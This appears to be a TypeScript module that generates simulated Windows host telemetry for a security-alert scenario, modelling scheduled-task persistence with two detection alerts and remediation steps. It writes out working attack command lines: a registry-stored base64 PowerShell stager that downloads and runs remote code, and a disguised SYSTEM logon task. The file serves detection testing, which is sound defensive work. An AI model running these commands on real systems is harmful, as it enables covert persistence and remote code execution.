/**
 * Story 5 — scheduled-task persistence (Empire's `persistence/elevated/schtasks`, seen in Security-Datasets).
 * Daniel Kim, a local admin, runs a trojanised "setup" script from Downloads. It stores a base64 PowerShell
 * stager in the registry and registers `\Microsoft\Windows\WindowsUpdate\Updater` to run at every logon as
 * SYSTEM, reading the stager back with `[Convert]::FromBase64String((gp HKLM:\Software\Microsoft\Network debug).debug)`.
 * The next morning's logon runs it (svchost's Task Scheduler → powershell as SYSTEM), and so does every later one.
 */

import { encodePowerShell, payloadDomain } from './attack-payloads.js';
import { personNamed } from './host-catalog.js';
import type { ProcessRef } from './process-ref.js';
import type { StoryStage } from './story-stage.js';
import { runLogonTasks } from './user-sessions.js';
import { powershellImage, sys32 } from './windows-paths.js';

const taskName = '\\Microsoft\\Windows\\WindowsUpdate\\Updater';
const taskCommand =
  'powershell -w hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))"';

const remediationSteps = [
  '1. Escalate the alert to the information security team.',
  `2. Delete the scheduled task ${taskName} and the registry value HKLM\\Software\\Microsoft\\Network\\debug.`,
  '3. Find out where the script that created it came from.',
];

/** Plants the persistence on WKS-ANA-01 on the workday `dayStart`; its first run is the next workday's logon. */
export function plantScheduledTask(stage: StoryStage, dayStart: number, nextDayStart: number): void {
  const { writer: w, random, catalog } = stage;
  const ids = stage.on('WKS-ANA-01');
  const { host } = ids;
  const victim = personNamed(catalog, 'dkim').user;
  const first = stage.deskSession(ids, victim, stage.timeOn(dayStart, 7, 9), '%%1937');
  let t = stage.timeOn(dayStart, 13, 15);
  const installer = w.spawn(
    ids,
    first.shell,
    t,
    powershellImage,
    `"${powershellImage}" -ExecutionPolicy Bypass -File "C:\\Users\\${victim.name}\\Downloads\\PowerBI-Gateway-Setup.ps1"`,
    { account: victim, logonId: first.logonId, elevation: '%%1937' },
  );
  w.conhost(ids, installer, t + 30);
  const url = `http://${payloadDomain(random)}/u.ps1`;
  const stager = encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('${url}')`);
  t += random.int(5_000, 20_000);
  w.spawn(
    ids,
    installer,
    t,
    `${sys32}\\reg.exe`,
    `"C:\\Windows\\system32\\reg.exe" add HKLM\\Software\\Microsoft\\Network /v debug /t REG_SZ /d ${stager} /f`,
  );
  t += random.int(1_000, 5_000);
  const schtasks = w.spawn(
    ids,
    installer,
    t,
    `${sys32}\\schtasks.exe`,
    `"C:\\Windows\\system32\\schtasks.exe" /create /tn "${taskName}" /tr "${taskCommand.replaceAll('"', '\\"')}" /sc onlogon /ru system /f`,
  );
  const task = { hostName: host.name, image: powershellImage, commandLine: taskCommand };
  const second = stage.deskSession(ids, victim, stage.timeOn(nextDayStart, 7, 9), '%%1937');
  const [run] = runLogonTasks(w, ids, [{ ...task, sinceMs: 0 }], second) as [ProcessRef];
  w.spawn(
    ids,
    run,
    run.createdMs + random.int(20_000, 60_000),
    `${sys32}\\whoami.exe`,
    '"C:\\Windows\\system32\\whoami.exe"',
  );
  stage.addLogonTask({ ...task, sinceMs: second.shell.createdMs + 1 });
  const common = { host, remediation: remediationSteps } as const;
  stage.recordProcessAlert(
    {
      ...common,
      process: schtasks,
      parent: installer,
      sessionStartMs: first.shell.createdMs,
      displayName: 'Suspicious scheduled task creation detected',
      severity: 'Medium',
      description: `Analysis of host data on ${host.name} detected a scheduled task created to run a hidden PowerShell command as SYSTEM at every logon. Attackers use scheduled tasks to persist on a machine.`,
      tactics: 'Persistence',
      techniques: ['T1053.005'],
    },
    {
      name: 'scheduled-task',
      summary: `${victim.name} runs PowerBI-Gateway-Setup.ps1: reg add of a base64 stager, schtasks /create ${taskName} /sc onlogon /ru system`,
    },
  );
  stage.recordProcessAlert(
    {
      ...common,
      process: run,
      parent: host.processes.schedule,
      sessionStartMs: host.bootMs,
      displayName: 'Suspicious Powershell Activity Detected',
      severity: 'High',
      description: `Analysis of host data detected a powershell script running on ${host.name} that has features in common with known suspicious scripts. This script could either be legitimate activity, or an indication of a compromised host.`,
      tactics: 'Execution',
      techniques: ['T1059.001', 'T1053.005'],
      more: (e) => e.url(url),
    },
    {
      name: 'scheduled-task/execution',
      summary: `the next logon runs the task: svchost (Schedule) → powershell -w hidden as SYSTEM, loading the stager from ${url}`,
    },
  );
}
